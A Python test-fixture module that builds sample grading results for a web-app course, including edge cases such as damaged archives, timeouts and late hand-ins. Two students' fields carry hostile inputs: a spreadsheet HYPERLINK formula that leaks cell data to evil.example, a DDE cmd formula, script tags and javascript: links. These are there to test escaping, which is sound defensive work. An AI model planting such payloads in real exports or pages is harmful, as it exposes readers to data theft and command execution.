"""Results of grading as the tables and pages show them: one student, and a class with every odd case."""

from __future__ import annotations

from collections.abc import Collection, Mapping
from typing import Any

from workbook.checks.verdicts import Verdict, waiting
from workbook.course.steps import Exercise, Step, find_step
from workbook.grading.names import key_of
from workbook.grading.results import Result, StepResult
from workbook.grading.submissions import Note

# A step without *keep* exercises, one with such an exercise, and one with exercises of two digits after the point.
STEPS = ("01_twitter_login", "03_facebook_login", "07_linking_by_email")
BUBBLEWRAP = "bubblewrap: own network, own processes, read-only files"

# Intake shows such a name as it is, but for its length: markup, quotes, commas and formulas are left in it.
HOSTILE_NAME = (
    '=HYPERLINK("http://evil.example/?"&A1),<script>alert(1)</script>\'"; -- ](javascript:alert(1))'
)
HOSTILE_MESSAGE = (
    "What should happen: /login redirects to Twitter.\n"
    "What your app did: it answered <script>alert(1)</script> & ]]> \x00\x1b[31m\x0b\ufffe\ud800 \u202e\n"
    "Where to look: ```](javascript:alert(1)) in app.py.\n"
    "\n"
    "browser -> app: GET /login\n"
    "=cmd|' /C calc'!A0"
)


def a_message(exercise: Exercise) -> str:
    """The three parts that an open exercise's message has."""
    return (
        f"What should happen: {exercise.title}.\n"
        f"What your app did: it answered 500 at exercise {exercise.id}.\n"
        "Where to look: app.py, line 12."
    )


def a_step(
    name: str,
    *,
    open: Mapping[str, str] | Collection[str] = (),
    unchecked: Collection[str] = (),
    trouble: str = "",
    left_behind: int = 0,
    partial: bool = False,
) -> StepResult:
    """The result of one step, in which all is passed but what is named.

    `open`: the IDs of exercises that are not passed, perhaps with their messages. Exercises that need one of them wait
    for it, unless `partial`. `unchecked`: the IDs of exercises without a verdict; all of the step where there is
    `trouble` and none is named.
    """
    step = find_step(name)
    without = set(unchecked) or ({exercise.id for exercise in step.exercises} if trouble else set())
    verdicts = tuple(_verdicts(step, open, without, partial))
    return StepResult(name, verdicts, trouble, left_behind, seconds=1.5, cpu=0.75)


def a_result(
    student: str = "Anna Berg",
    *,
    steps: Collection[str | StepResult] = STEPS,
    open: Mapping[str, str] | Collection[str] = (),
    **fields: Any,
) -> Result:
    """One student's result, with everything passed but `open` (see a_step). `fields` are the result's own; a step can
    be given as it is."""
    results = tuple(one if isinstance(one, StepResult) else a_step(one, open=_of(one, open)) for one in steps)
    key = fields.pop("key", None) or key_of(student, fields.get("source", ""))
    given = {"digest": "d" * 64, "graded_with": "w" * 64, "isolated_by": BUBBLEWRAP, **fields}
    return Result(key=key, student=student, steps=results, **given)


def handed_nothing_in(student: str, *, steps: Collection[str] = STEPS, **fields: Any) -> Result:
    """The result of a student of the roster from whom nothing came: nothing was run, so there is no verdict."""
    given = {
        "isolated_by": "",
        "listed": True,
        "notes": (Note("nothing", "Nothing was handed in."),),
        **fields,
    }
    empty = tuple(StepResult(name, ()) for name in steps)
    return a_result(student, steps=empty, handed_in=False, **given)


def a_class() -> tuple[Result, ...]:
    """A class with every odd case, in the order of its roster; the one who is not on the roster comes last."""
    one, facebook, linking = STEPS
    ok_one, ok_facebook, ok_linking = (a_step(name) for name in STEPS)
    known: dict[str, Any] = {"listed": True}
    return (
        a_result("Anna Berg", id="s1001", email="anna@example.org", source="anna.zip", **known),
        a_result("Bert Ohm", id="s1002", email="bert@example.org", open=("1.3",), late=True, **known),
        # Keep exercises that the starter passes are lost.
        a_result("Cleo Dahl", id="0042", email="cleo@example.org", open=("3.13", "7.3", "7.10"), **known),
        handed_nothing_in("Dora Eng", id="s1004", email="dora@example.org"),
        # No exercise of one step could be checked, and one of another could not.
        a_result(
            "Emil Falk",
            id="s1005",
            email="emil@example.org",
            steps=(
                ok_one,
                a_step(facebook, trouble="The app was killed: it took more than 512 MB of memory."),
                a_step(linking, unchecked=("7.6",), trouble="7.6 took longer than 60 s."),
            ),
            **known,
        ),
        # The first exercise is open: nearly all else waits.
        a_result("Fay Gram", id="s1006", email="fay@example.org", open=("1.1", "3.1"), **known),
        # Graded with --partial: exercises that need an open one have verdicts of their own.
        a_result(
            "Gus Holm",
            id="s1007",
            email="gus@example.org",
            steps=(a_step(one, open=("1.1",), partial=True), ok_facebook, ok_linking),
            **known,
        ),
        # Two processes of the app still ran at the end, and files led out.
        a_result(
            "Hal Iversen",
            id="s1008",
            email="hal@example.org",
            steps=(a_step(one, left_behind=2), ok_facebook, ok_linking),
            notes=(
                Note("led out", "01_twitter_login/app.py is a link that leads out of the submission."),
                Note("limit", "More than 2000 files; the others were left out."),
                Note("twice", "work.zip and work-2.zip hold step 01; work-2.zip is newer and was taken."),
            ),
            **known,
        ),
        # A damaged archive: handed in, and nothing in it could be read.
        a_result(
            "Ida Jonsson",
            id="s1009",
            email="ida@example.org",
            isolated_by="",
            steps=tuple(a_step(name, trouble="ida.zip is damaged.") for name in STEPS),
            notes=(Note("unread", "ida.zip is damaged."),),
            **known,
        ),
        a_result(
            "Åsa Özdemir, 明日香",
            id="=1+1",
            email="+asa@example.org",
            open={"1.1": HOSTILE_MESSAGE},
            **known,
        ),
        a_result(
            HOSTILE_NAME,
            id="@SUM(A1)",
            email='-"a,b"@example.org',
            late=True,
            listed=False,
            open={"1.1": HOSTILE_MESSAGE, "3.2": HOSTILE_MESSAGE},
            notes=(Note("roster", "The roster does not have this student."),),
        ),
    )


def _of(step: str, open: Mapping[str, str] | Collection[str]) -> Mapping[str, str] | Collection[str]:
    known = {exercise.id for exercise in find_step(step).exercises}
    if isinstance(open, Mapping):
        return {id: message for id, message in open.items() if id in known}
    return [id for id in open if id in known]


def _verdicts(
    step: Step, open: Mapping[str, str] | Collection[str], without: Collection[str], partial: bool
) -> list[Verdict]:
    known = {exercise.id for exercise in step.exercises}
    assert known >= {*open, *without}, (
        f"{step.name} has no such exercise: {sorted({*open, *without} - known)}"
    )
    messages = open if isinstance(open, Mapping) else {}
    # By each exercise that is not passed: the one that is the reason.
    because: dict[str, Exercise] = {}
    found = []
    for exercise in step.exercises:
        first = next((because[id] for id in exercise.needs if id in because), None)
        if exercise.id in without:
            continue
        if exercise.id in open:
            because[exercise.id] = exercise
            message = messages.get(exercise.id) or a_message(exercise)
            found.append(Verdict(exercise.id, exercise.title, exercise.points, False, None, message, 0.25))
        elif first is not None and not partial:
            because[exercise.id] = first
            found.append(waiting(exercise, first))
        else:
            found.append(Verdict(exercise.id, exercise.title, exercise.points, True, None, "", 0.25))
    return found
